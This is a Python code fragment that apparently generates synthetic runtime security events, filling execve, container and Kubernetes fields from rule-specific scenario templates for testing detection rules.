def _field_values(rule: Rule, actor: Workload, stream: str, ns: int, draws: tuple) -> Obj:
    lport, rand = draws
    context = {"pod_ip": actor.pod_ip, "lport": lport, "rand": rand, "process": actor.process, "cmdline": actor.cmdline,
               "exepath": actor.exepath, "now": ns - 2 * _NS}
    context["tmp"] = _GEN_TMP.format(action=rule.name.title().replace(" ", "").replace("/", ""), rand=rand)
    values: Obj = {
        "evt.time": ns,
        "evt.type": "execve",
        "user.name": "root", "user.uid": 0, "user.loginuid": -1,
        "proc.name": actor.process, "proc.exepath": actor.exepath, "proc.cmdline": actor.cmdline,
        "proc.pname": actor.parent, "proc.tty": 0,
        "container.id": _bare_container_id(actor.container_id)[:12],
        "container.name": actor.container_name,
        "container.image.repository": actor.image_repository,
        "container.image.tag": actor.image_tag,
        "container.start_ts": ns - 3600 * _NS,
        "k8s.ns.name": actor.namespace,
        "k8s.pod.name": actor.pod_name,
    }
    scenarios = _GENERATOR_SCENARIOS if stream == "generator" else _BACKGROUND_SCENARIOS
    for name, value in scenarios.get(rule.name, {}).items():
        values[name] = _fill(value, context)
    if "exe_flags=%evt.arg.flags" in rule.output:
        values["evt.arg.flags"] = _EXEC_FLAGS
    return values


def _fill(value: Any, context: Mapping[str, Any]) -> Any:
    if not isinstance(value, str) or "{" not in value:
        return value
    if value.endswith(":int}") and value.count("{") == 1:
        return int(context[value[1:-5]])
    return value.format(**context)
